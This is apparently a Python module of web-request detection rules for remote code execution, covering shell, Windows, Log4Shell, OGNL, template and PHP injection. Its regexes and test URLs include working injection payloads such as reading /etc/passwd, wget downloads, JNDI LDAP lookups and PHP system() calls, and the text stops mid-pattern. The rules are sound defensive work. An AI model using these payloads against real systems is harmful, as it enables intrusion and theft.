"""Commands and code to be run: shells, PHP, Java, templates, Node."""

from pipeline.signatures.signature import ARGS, PAYLOAD, Example, Signature

COMMANDS = (
    r"id|ls|ps|w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|"
    r"wget|curl|fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|"
    r"zsh|ksh|csh|tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|"
    r"chown|chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
    r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
    r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
    r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
    r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
    r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
    r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
    r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
    r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
    r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
    r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
    r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
    r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
    r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
    r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
    r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
    r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
    r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet"
)
STRICT = (
    r"whoami|uname|pwd|tac|printenv|echo|printf|wget|curl|lynx|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|"
    r"socat|bash|zsh|ksh|csh|tcsh|busybox|gcc|chmod|chown|chattr|mv|rm|rmdir|mkdir|ln|tar|gzip|gunzip|"
    r"bzip2|unzip|7z|base64|xxd|hexdump|grep|egrep|awk|gawk|sed|uniq|tr|xargs|whereis|pkill|killall|"
    r"nohup|crontab|systemctl|umount|df|du|lastlog|ifconfig|netstat|arp|traceroute|nslookup|dig|"
    r"dnsdomainname|useradd|userdel|adduser|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|npm|kubectl|"
    r"mysql|psql|sqlite3|redis-cli|openssl|gpg|vi|vim|nano|emacs|getent|sendmail|insmod|lsmod|dmesg|"
    r"sysctl|iptables|tcpdump|nmap|timeout|bsdtar|ansible|jjs|rlwrap|tmux|ash|lsof|lsb_release|lscpu|"
    r"lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|"
    r"ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|hashcat|"
    r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|flatpak|pacman|zypper|"
    r"pipx|pnpm|npx|ansible-playbook|terraform|virsh|lxc|lxd|podman|ctr|crictl|rclone|s3cmd|gcloud|"
    r"gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|"
    r"zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|csplit|fmt|tsort|cmp|sdiff|"
    r"vimdiff|basenc|base32|openvpn|stunnel|proxychains|torify|iconv|recode|jq|yq|xmllint|xmlstarlet|"
    r"ls|cat|ping|perl|php|python[23]?|telnet|passwd"
)

RCE = (
    Signature(
        id="rce-unix-chain",
        family="rce",
        title="A UNIX command behind a separator of the shell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.004"),
        where=("args", "path", "referer", "header"),
        pattern=(
            r"(?:[;|`{]|&&|\|\||\$\(|<\(|>\(|\n)\s*(?:[\w$]*/(?:usr/)?(?:local/)?s?bin/)?(?:"
            + COMMANDS
            + (
                r")(?:\s+[-/\w.'\"$~<>*|;&]|\s*[;|`)}<>]|\$ifs|\s*$|&)|&\s*(?:nslookup|ping|wget|curl|sleep|"
                r"whoami|cat|uname|telnet|tftp) [\w.-]+"
            )
        ),
        positive=(
            "/i?ip=127.0.0.1;cat+/etc/passwd",
            "/i?x=%7Cid",
            "/i?x=$(whoami)",
            "/i?x=`id`",
            "/i?x=a%0acat%20/x",
            "/i?ip=1;c''at%20x",
            "/x/2-%26nslookup%20a%26'",
            "/i?x=;cat${IFS}x",
        ),
        negative=("/i?a=b;id=3", "/i?q=cats;dogs"),
        false_positives="texts with code in them",
        references=("https://owasp.org/www-community/attacks/Command_Injection",),
    ),
    Signature(
        id="rce-unix-command",
        family="rce",
        title="A UNIX command with what it is given",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"(?:=|^|[\s;|&(`'\"])(?:(?:/\w+)*/)?(?:cat|tac|head|tail|more|less|nl|ls|rm|chmod|cp|mv|wget|"
            r"curl|nc|ncat|bash|sh|dash|zsh|ksh|perl|python[\d.]*|ruby|php|touch|echo|uname|ping|find|tar|"
            r"base64|tftp|busybox) (?:-{1,2}[a-z0-9]+\b|[/~]\w*[/.]|https?://|[\w/.]*[*?]|[\w.]+\s*[|>]|\$\w)|"
            r"\b(?:wget|curl) (?:-\S+ )*(?:https?|ftp)://|\b(?:ba|z|k|da|c|a)?sh -[ci]\b|\bcat /\w+|\$shell\b|"
            r"\bnc -\w*[elp]\w*\s|/dev/(?:tcp|udp)/|\bchmod \+?[0-7x]|\brm -rf?\b|(?:^|"
            r"[\s=;/])(?:usr/)?s?bin/(?:" + COMMANDS + r")\b"
        ),
        plain=True,
        positive=("/i?x=cat+/etc/passwd", "/i?x=wget+http://x/y", "/i?x=/bin/sh+-c+id", "/i?a=bin/ansible"),
        negative=("/i?q=cat+food", "/i?q=ping+pong", "/i?q=curl+hair"),
        false_positives="questions about the shell in a search box",
    ),
    Signature(
        id="rce-unix-expansion",
        family="rce",
        title="A command or a variable put in by the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=PAYLOAD,
        pattern=(
            r"\$\([^)]|\$\{?ifs\b|<\(\s*\w+|\(\)\s*\{|`[a-z]{2,}[^`&]*`|\$\{[#!]?(?:path|home|shell|pwd|user|"
            r"hostname)\b|\$\(\(|\$\["
        ),
        positive=("/i?x=$(cmd)", "/i?x=a${IFS}b", "/i?x=()+{+:;};+id"),
        negative=("/i?price=$5", "/i?a=(b)"),
        false_positives="code in a text",
        references=("https://nvd.nist.gov/vuln/detail/CVE-2014-6271",),
    ),
    Signature(
        id="rce-unix-hidden",
        family="rce",
        title="A command or path hidden by wildcards, quotes or backslashes of the shell",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059.004"),
        where=ARGS,
        pattern=(
            r"/\w*[?*\[][\w?*\[\]!^-]*/[\w?*\[\]]|\((?:ba|z|k|da|c|a)?sh\)|&&\s*\(\w+\)|/(?:e[t*?]+|b[i*?]+n?|"
            r"\?{2,})[*?]*/|[a-z]\\[a-z]+\s+/|\w''\w+\s|\w\"\"\w+\s|[a-z]\$[@*_!-]\w|[a-z]\$\$\w|\$\(\)\w|"
            r"\{,?\$?['\"]?[a-z]+['\"]?,[^}&]*\}|\{,\$?['\"]?[a-z]+['\"]?,?\}"
        ),
        positive=("/i?x=cat+/et*/*wd", "/i?x=ti''me+sh", "/i?x=%7b%2c%69%64%7d"),
        negative=("/i?a=b/*", "/i?q={a:1}"),
    ),
    Signature(
        id="rce-windows",
        family="rce",
        title="A Windows command, or PowerShell",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059.003"),
        where=("url", *PAYLOAD),
        pattern=(
            r"\bcmd(?:\.exe)?[\s+?]*/[ckr]\b|\bpowershell(?:\.exe)?\b\s*[-/\"'(]|\bpwsh\b\s*-|"
            r"\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*/transfer|\bnet1?[ +](?:user|localgroup|share|"
            r"view|group)\b|\btype\s+[a-z]:[\\/]|\bdir\s+[a-z]:[\\/]|\bwmic\s+(?:process|os|useraccount)|"
            r"\brundll32\b|\bregsvr32\b|\bmshta\b|\b(?:invoke-\w+|iex[ (]|new-object|downloadstring|"
            r"downloadfile|start-process|get-content|write-output|-encodedcommand)\b\s*[\s('\"$-]|"
            r"\bcscript\b\s|\bsysteminfo\b|\bipconfig\b|\btasklist\b|%(?:comspec|systemroot|windir|"
            r"programfiles|userprofile|appdata)(?:%|:)|(?:[;|]\s*|&& ?|& )(?:dir|ver|type|copy|del|ren|"
            r"ping)\b\s*(?:[a-z]:|/|\\|-n|$|&)|(?:[;|`\n]\s*|&& ?|& |=)(?:arp|assoc|attrib|auditpol|bcdboot|"
            r"bcdedit|bitsadmin|bootcfg|cacls|certreq|certutil|chkdsk|cipher|clip|cmdkey|cmstp|csvde|defrag|"
            r"diskpart|diskshadow|dism|driverquery|dsquery|dsget|esentutl|eventcreate|extrac32|forfiles|"
            r"fsutil|ftype|getmac|gpresult|gpupdate|icacls|installutil|ipconfig|klist|logoff|makecab|"
            r"mavinject|mklink|msbuild|msconfig|msdt|mshta|msiexec|mstsc|nbtstat|netsh|nltest|nslookup|"
            r"odbcconf|pcalua|pktmon|pnputil|powercfg|qprocess|quser|qwinsta|regasm|regsvcs|regsvr32|robocopy|"
            r"rundll32|runas|schtasks|secedit|sfc|subst|systeminfo|takeown|taskkill|tasklist|tracert|typeperf|"
            r"vssadmin|w32tm|wbadmin|wecutil|wevtutil|winrm|winrs|wmic|wscript|cscript|wusa|xcopy|procdump|"
            r"psexec|pslist|pskill|psinfo|psloggedon|psservice|psgetsid|psfile|psshutdown|"
            r"mimikatz)(?:\.exe)?(?:[ ;|&/]|$)"
        ),
        plain=True,
        positive=("/i?x=cmd.exe+/c+dir", "/i?x=powershell+-enc+x", "/i?x=%26+net+user", "/scripts/cmd.exe?/c+dir"),
        negative=("/i?q=cmd",),
    ),
    Signature(
        id="rce-windows-batch",
        family="rce",
        title="FOR or IF of a Windows batch",
        severity="medium",
        confidence="medium",
        techniques=("T1190", "T1059.003"),
        where=ARGS,
        pattern=(
            r"\bfor (?:/[dflr] )*.*%.*\bin\b\s*\(.*\)?\s*\bdo\b|\bfor /[dflr] |\bfor\s+%.*\bin\s*\(|"
            r"\bif (?:/i )?(?:not )?(?:exist \S+|defined \S+|errorlevel \d|cmdextversion |"
            r"\(?[\"'%\[\w]*[%\"'\]\w]*\)?\s*(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))"
        ),
        plain=True,
        positive=("/i?x=FOR+%25a+IN+(set)+DO+abc", "/i?x=IF+EXIST+a.txt+ECHO+x", "/i?x=if+a==b+c"),
        negative=("/i?q=if+you+exist", "/i?q=for+sale+in+(london)"),
    ),
    Signature(
        id="log4shell-jndi",
        family="log4shell",
        title="A JNDI lookup for log4j",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=(
            r"\$\{\s*jndi\s*:|\bjndi:(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http)\b|\$\{(?:lower|upper|env|sys|"
            r"date|main|::-)[^}]*\}.{0,}\$\{|\$\{\$\{|\$\{[^}]*:-[^}]?\}"
        ),
        plain=True,
        positive=(
            "/?x=${jndi:ldap://x/a}",
            "/?x=${${lower:j}ndi:ldap://x}",
            "/?x=${${::-j}${::-n}di:rmi://x}",
            "/%24%7Bjndi:dns://x%7D",
            "/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
        ),
        negative=("/?x=${name}", "/docs/jndi"),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2021-44228",),
    ),
    Signature(
        id="rce-text4shell",
        family="rce",
        title="A lookup of Commons Text that runs scripts or fetches",
        severity="high",
        confidence="high",
        techniques=("T1190",),
        where=PAYLOAD,
        pattern=r"\$\{\s*(?:script|url|dns|const|java|file|properties|resourcebundle|base64decoder|urldecoder)\s*:",
        positive=(
            "/?s=${script:javascript:java.lang.Runtime.getRuntime().exec('x')}",
            "/?s=$%7Burl:UTF-8:https://x%7D",
            "/?s=${dns:address|x}",
        ),
        negative=("/?s=${total:1}",),
        references=("https://nvd.nist.gov/vuln/detail/CVE-2022-42889",),
    ),
    Signature(
        id="rce-java",
        family="rce",
        title="Java, OGNL, SpEL or EL that reaches for the runtime",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=(
            r"\bjava\.(?:lang|io|util|net|nio|beans)\.|\bjavax\.(?:script|naming|el)\.|\bgetruntime\s*\(|"
            r"\bprocessbuilder\b|\bruntime\.exec\b|\bclass\.forname\b|\bgetclass\s*\(|"
            r"\bclass\.(?:module\.)?classloader\b|#_memberaccess|\bmemberaccess\b|@ognl\.|\bognlcontext\b|"
            r"#(?:context|application|session|parameters|request)\s*\[|%\{\s*[(#]|\bxwork\.methodaccessor|"
            r"\bfreemarker\.template\b|\bt\s*\(\s*java|\borg\.(?:apache|springframework|codehaus)\.\w+\.|"
            r"\bcom\.(?:opensymphony|sun)\.\w+|\bscriptenginemanager\b|\bgroovy\.|\bclassloader\b\.|"
            r"\bwebwork\b|\bnew\s+java\."
        ),
        plain=True,
        positive=(
            "/?x=%25{(%23_memberAccess=@ognl.OgnlContext@DEFAULT)}",
            "/?x=T(java.lang.Runtime).getRuntime().exec('id')",
            "/?class.module.classLoader.resources.x=1",
            "/?q=${class.getClass()}",
        ),
        negative=("/docs/java/language", "/?q=java+lang"),
        false_positives="stack traces and class names in a search box",
        references=(
            "https://nvd.nist.gov/vuln/detail/CVE-2017-5638",
            "https://nvd.nist.gov/vuln/detail/CVE-2022-22965",
        ),
    ),
    Signature(
        id="rce-template",
        family="rce",
        title="An expression for a template engine",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=(
            r"\{\{.*(?:[*+/'\"()\[|]|__|-\d).*\}\}|\{\{\s*(?:config|self|settings|_self|namespace|lipsum|"
            r"cycler|joiner)\b|\{%\s*\w+.*%\}|<%=?[^>]*%>|#\{[^}]*[*+(.'\"][^}]*\}|\$\{[^}]*(?:[*+(]|"
            r"\d\s*-\s*\d)[^}]*\}|@\([^)]*[*+/-][^)]*\)|\{php\}|\{\$smarty|\{\{=|\[\[\$\{|\*\{[^}]*\}|"
            r"~\[.*\]~|__\$\{|#set\s*\(\s*\$|<#assign|\{if\s|\[#assign"
        ),
        positive=("/?x={{7*7}}", "/?x=${7*7}", "/?x=<%25=7*7%25>", "/?x=%23{7*7}", "/?x={{config.items()}}"),
        negative=("/?x={{name}}", "/?x=${name}", "/?x=#top"),
        false_positives="campaign links whose placeholders were not filled in",
        references=("https://portswigger.net/web-security/server-side-template-injection",),
    ),
    Signature(
        id="rce-php",
        family="rce",
        title="PHP or ASP code",
        severity="high",
        confidence="high",
        techniques=("T1190", "T1059"),
        where=PAYLOAD,
        pattern=(
            r"\bresponse\.write\s*\(|\bserver\.(?:createobject|execute|mappath)\s*\(|<\?(?:php\b|=|\s|"
            r"xml\s*:)|\{/?php\}|\[/?php\]|<script\s+language\s*=\s*[\"']?php"
        ),
        positive=("/?x=<?php+system('id');?>", "/?x=<?=1", "/?x={php}echo+1", "/?x=%3C%3F%0Aphp%20echo"),
        negative=("/?x=<?xml+version='1.0'?>", "/?x=<?xsl-stylesheet?>"),
    ),
    Signature(
        id="rce-php-function",
        family="rce",
        title="A PHP function that runs, reads or tells",
        severity="high",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=("args", "header"),
        pattern=(
            r"(?:^|[^a-z])(?:shell_exec|passthru|popen|proc_(?:open|nice|terminate|close|get_status)|"
            r"pcntl_exec|assert|phpinfo|phpversion|phpcredits|php_\w+|preg_\w+|create_function|"
            r"call_user_(?:func|method)\w*|array_(?:map|filter|walk|reduce|diff_u\w+|intersect_u\w+)|"
            r"u[ak]?sort|file_(?:get|put)_contents|readfile|fopen|fread|fwrite|fputs|fputcsv|fgets|fsockopen|"
            r"pfsockopen|unlink|chmod|chown|chgrp|chr|base64_(?:de|en)code|gzinflate|gzdecode|gzuncompress|"
            r"gzopen|gzfile|readgzfile|str_rot13|hex2bin|bin2hex|unserialize|var_dump|var_export|print_r|"
            r"getenv|ini_(?:set|get|restore|alter)|putenv|curl_\w+|show_source|highlight_\w+|scandir|opendir|"
            r"readlink|symlink|tempnam|tmpfile|move_uploaded_file|parse_(?:str|ini_file)|posix_\w+|ob_\w+|"
            r"register_\w+_function|set_(?:time_limit|error_handler|include_path)|error_(?:log|reporting)|"
            r"func_get_args?|get_(?:defined_vars|current_user|cfg_var|loaded_extensions)|debug_\w+|"
            r"is_callable|socket_\w+|stream_\w+|mysqli?_\w+|pg_\w+|sqlite_\w+|odbc_\w+|ftp_\w+|ssh2_\w+|"
            r"ldap_\w+|imap_\w+|apache_\w+|openssl_\w+|mcrypt_\w+|convert_uu\w+|simplexml_\w+|xmlrpc_\w+|"
            r"session_\w+|spl_\w+|iterator_\w+|filter_\w+|date_\w+|mb_\w+|tidy_\w+|zip_\w+|exif_\w+|iptc\w+|"
            r"image(?:create|png|jpeg|gif)\w*|str_\w+|substr_\w+|html_entity_decode|htmlspecialchars\w*|"
            r"strrev|strtr|strlen|strpos|ucfirst|ucwords|implode|explode|sprintf|vsprintf|printf|md5_file|"
            r"sha1_file|md5|sha1|crc32|fileperms|fileowner|file(?:size|group|inode|type|atime|mtime|ctime)|"
            r"disk_\w+|diskfreespace|gethostbyname|dns_\w+|checkdnsrr|escapeshell\w+|syslog|openlog|touch|"
            r"mkdir|rmdir|rename|usleep|phpmailer|include_once|require_once)(?:\s|/\*.*\*/|(?:#|"
            r"//)[^\n]*\n)*\(|(?:^|[^a-z])(?:system|exec|eval|include|require|print|echo|die|exit|glob|mail|"
            r"dl|define|constant|extract|compact|serialize|copy|link|stat|sleep|ord|join|key|current|each|end|"
            r"reset|abs|acos|array|asin|atan|basename|ceil|checkdate|chdir|chop|chroot|clearstatcache|"
            r"closedir|cos|count|crypt|date|decbin|dechex|dir|dirname|empty|ereg|exp|fclose|feof|fflush|file|"
            r"flock|floor|flush|fmod|fpassthru|fseek|ftell|ftruncate|getcwd|getdate|getmyuid|getopt|gettype|"
            r"hash|header|hexdec|hypot|idate|intdiv|intval|isset|lchown|list|localtime|log|lstat|ltrim|max|"
            r"metaphone|microtime|min|mktime|natsort|next|octdec|pack|pathinfo|pclose|pi|pos|pow|prev|"
            r"quotemeta|rand|range|readdir|realpath|rewind|round|rsort|rtrim|settype|shuffle|sin|sizeof|sort|"
            r"soundex|split|sqrt|srand|strcmp|stristr|strstr|strtolower|strtotime|strtoupper|substr|tan|time|"
            r"trim|umask|uniqid|unpack|unset|urldecode|urlencode|virtual|wordwrap)(?:\(|\s*(?:[\t\n\r]|"
            r"/\*.*\*/|  |(?:#|//)[^\n]*\n)\s*\()\s*[\w)'\"$@(\[)#/.~-]|fsockopen\s*\(|gz(?:decode|inflate|"
            r"uncompress)\s*\("
        ),
        positive=(
            "/?x=phpinfo()",
            "/?x=system('id')",
            "/?x=base64_decode(",
            "/?x=eval(chr(112).chr(104))",
            "/?x=exec%20%09%20%23%0a%20()",
        ),
        negative=("/?q=systems()", "/?q=system+(linux)", "/?q=the+mail+(me)"),
        false_positives="code in a text; a name followed by parentheses",
    ),
    Signature(
        id="rce-code-call",
        family="rce",
        title="A call in the style of PHP and SQL: words joined by underscores, parentheses",
        severity="low",
        confidence="low",
        techniques=("T1595.002",),
        where=ARGS,
        pattern=r"(?:^|[^a-z0-9_])[a-z]\w*_\w+\s*\([^)]*\)",
        positive=("/?x=some_function(1)",),
        negative=("/?q=a_b", "/?q=f(x)"),
        false_positives="calls of an API that are written so, placeholders of a template",
    ),
    Signature(
        id="rce-php-tag-end",
        family="rce",
        title="The end of PHP code",
        severity="low",
        confidence="medium",
        techniques=("T1190", "T1059"),
        where=ARGS,
        pattern=r"[;)}]\s*\?>",
        positive=("/?x=id;?>",),
        negative=("/?x=1?",),
        false_positives="XML in a parameter",
    ),
    Signature(
        id="rce-placeholder",
        family="rce",
        title="A variable in braces, which a shell, PHP or a template would put in",
        severity="low",
        confidence="low",
        techniques=("T1595.002",),
        where=ARGS,
        pattern=r"\$\s*\{\s*['\"$\w]",
        positive=("/?x=${a}",),
        negative=("/?price=$5",),
        false_positives="links whose placeholders were not filled in",
    ),
    Signature(
        id="rce-unix-word",
        family="rce",
        title="A value that begins like a command line",
        severity="low",
        confidence="low",
        techniques=("T1595.002", "T1059.004"),
        where=ARGS,
        pattern=(
            r"[=:](?:sudo |time |nohup |env |exec |nice |timeout \d+\w? |command |xargs |busybox |watch |"
            r"eval |builtin )+(?:"
            + COMMANDS
            + (
                r")\b(?: ?$| ?&| [^a-z]| \w+)|(?:^|[=;|&\n]) ?(?:whoami|uname|pwd|tac|printenv|echo|printf|wget|"
                r"curl|lynx|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|bash|zsh|ksh|csh|tcsh|busybox|gcc|chmod|"
                r"chown|chattr|mv|rm|rmdir|mkdir|ln|tar|gzip|gunzip|bzip2|unzip|7z|base64|xxd|hexdump|grep|egrep|"
                r"awk|gawk|sed|uniq|tr|xargs|whereis|pkill|killall|nohup|crontab|systemctl|umount|df|du|lastlog|"
                r"ifconfig|netstat|arp|traceroute|nslookup|dig|dnsdomainname|useradd|userdel|adduser|sudo|ssh|scp|"
                r"rsync|apt|apt-get|yum|dnf|apk|npm|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|vi|vim|nano|"
                r"emacs|getent|sendmail|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|timeout|bsdtar|ansible|"
                r"jjs|rlwrap|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|"
                r"capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|"
                r"tshark|ettercap|arpspoof|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|flatpak|pacman|zypper|pipx|pnpm|npx|ansible-playbook|terraform|virsh|lxc|lxd|podman|"
                r"ctr|crictl|rclone|s3cmd|gcloud|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|genisoimage|mkisofs|"
                r"zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|"
                r"tmpwatch|csplit|fmt|tsort|cmp|sdiff|vimdiff|basenc|base32|openvpn|stunnel|proxychains|torify|"
                r"iconv|recode|jq|yq|xmllint|xmlstarlet|ls|cat|ping|perl|php|python[23]?|telnet|passwd) (?:-|"
                r"[~/.*\"'$]|\w+ ?(?:\w+ ?)?(?:$|&)|\w+[.:/@]\w)|[;|]\s*(?:(?:/\w+)*/)?(?:id|ls|ps|w|who|whoami|"
                r"uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|fetch|lynx|"
                r"lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|tcsh|fish|"
                r"busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|chattr|cp|mv|rm|"
                r"rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|hexdump|strings|grep|"
                r"egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|type|kill|pkill|killall|"
                r"nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|lastlog|history|ifconfig|ip|"
                r"netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|dnsdomainname|useradd|userdel|"
                r"adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|pip3?|npm|git|docker|kubectl|mysql|"
                r"psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|source|export|alias|unset|trap|test|"
                r"expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|groups|getent|finger|mail|sendmail|"
                r"reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|tcpdump|nmap|watch|timeout|time|"
                r"nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|lsof|lsb_release|lscpu|lsattr|lspci|"
                r"lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|setcap|getcap|strace|ltrace|gdb|"
                r"msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|arpspoof|responder|john|hashcat|"
                r"crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|dpkg|rpm|snap|flatpak|pacman|"
                r"zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|ansible-playbook|terraform|"
                r"vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|az|gsutil|ipfs|zstd|xz|"
                r"unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|zless|zmore|rgrep|"
                r"fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|csplit|paste|column|"
                r"fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|socks|proxychains|"
                r"torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet)(?:\s+[-/.'\"(]|\s*[;|<>(]\s*)|& ?(?:id|ls|ps|"
                r"w|who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
                r"fetch|lynx|lwp-\w+|aria2c|tftp|ftpget|ftp|nc|ncat|netcat|socat|telnet|bash|sh|dash|zsh|ksh|csh|"
                r"tcsh|fish|busybox|perl|python[23]?|ll|aa-\w+|ruby|php\d?|node|lua|gcc|cc|make|chmod|chown|"
                r"chattr|cp|mv|rm|rmdir|mkdir|touch|ln|dd|tar|gzip|gunzip|bzip2|unzip|zip|7z|base64|xxd|od|"
                r"hexdump|strings|grep|egrep|awk|gawk|sed|cut|sort|uniq|tr|tee|xargs|find|locate|which|whereis|"
                r"type|kill|pkill|killall|nohup|crontab|at|service|systemctl|mount|umount|df|du|free|top|last|"
                r"lastlog|history|ifconfig|ip|netstat|ss|route|arp|ping6?|traceroute|nslookup|dig|host|hostname|"
                r"dnsdomainname|useradd|userdel|adduser|passwd|su|sudo|ssh|scp|rsync|apt|apt-get|yum|dnf|apk|"
                r"pip3?|npm|git|docker|kubectl|mysql|psql|sqlite3|redis-cli|openssl|gpg|sleep|exit|exec|eval|"
                r"source|export|alias|unset|trap|test|expr|ed|vi|vim|nano|emacs|diff|patch|file|stat|date|uptime|"
                r"groups|getent|finger|mail|sendmail|reboot|shutdown|halt|init|insmod|lsmod|dmesg|sysctl|iptables|"
                r"tcpdump|nmap|watch|timeout|time|nice|yes|rev|bsdtar|ansible|java|jjs|rlwrap|screen|tmux|ash|"
                r"lsof|lsb_release|lscpu|lsattr|lspci|lsusb|blkid|mkfs|fdisk|parted|chroot|capsh|unshare|nsenter|"
                r"setcap|getcap|strace|ltrace|gdb|msfvenom|msfconsole|searchsploit|hping3|tshark|ettercap|"
                r"arpspoof|responder|john|hashcat|crackmapexec|smbclient|rpcclient|ldapsearch|whois|pkexec|doas|"
                r"dpkg|rpm|snap|flatpak|pacman|zypper|emerge|conda|pipx|gem|cargo|composer|bundle|yarn|pnpm|npx|"
                r"ansible-playbook|terraform|vagrant|virsh|lxc|lxd|podman|ctr|crictl|helm|rclone|s3cmd|aws|gcloud|"
                r"az|gsutil|ipfs|zstd|xz|unxz|lzma|lz4|cpio|ar|genisoimage|mkisofs|zipgrep|zcat|bzcat|xzcat|zgrep|"
                r"zless|zmore|rgrep|fgrep|pgrep|pidof|pstree|mkfifo|mknod|mktemp|tmpwatch|truncate|shred|split|"
                r"csplit|paste|column|fold|fmt|pr|tsort|comm|cmp|sdiff|vimdiff|basenc|base32|openvpn|wg|stunnel|"
                r"socks|proxychains|torify|tor|iconv|recode|jq|yq|xmllint|xmlstarlet) ['\"(]|[;|]\s*(?:id|ls|ps|w|"
                r"who|whoami|uname|pwd|cat|tac|nl|head|tail|more|less|env|printenv|set|echo|printf|wget|curl|"
